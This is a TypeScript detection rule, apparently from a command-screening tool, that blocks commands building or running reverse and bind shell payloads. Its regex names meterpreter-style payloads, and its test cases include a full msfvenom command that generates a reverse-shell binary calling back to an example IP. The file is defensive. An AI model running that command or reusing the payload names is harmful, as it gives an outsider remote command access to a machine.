import { eachCommand, programOf, wordsOf, type Rule } from './rule.ts'

/** What the makers of such programs call them: a shell, or more, that connects out or waits to be connected to. */
const payload =
  /(^|[/_=])(meterpreter|shell|cmd)?[/_]?(reverse|bind)_(tcp|udp|https?|perl|python|ruby|bash|awk|php|powershell|netcat|lua|nodejs)\b|\/meterpreter[/_]|shell_(reverse|bind)_\w+|jsp_shell/

export const rule: Rule = {
  id: 'call-back-program',
  level: 'stop',
  why: 'A program is made, or told, to let somebody elsewhere type commands on the machine where it runs.',
  techniques: ['T1587.001', 'T1071'],
  find: (facts) =>
    eachCommand(
      facts,
      (command) =>
        !/^(echo|printf|grep|egrep|rg|cat|ls|find|man|git|sed|awk)$/.test(programOf(command)) &&
        wordsOf(command)
          .slice(1)
          .some((word) => payload.test(word)),
      (command) => `${programOf(command)} makes or runs a program that lets somebody elsewhere type commands`,
    ),
  fires: [
    'msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=443 -f elf -o x',
    'some-tool -p windows/meterpreter/reverse_tcp',
  ],
  silent: ['grep -r shell_reverse_tcp /srv', 'nginx -s reload', 'ssh -R 8080:localhost:80 web1'],
}
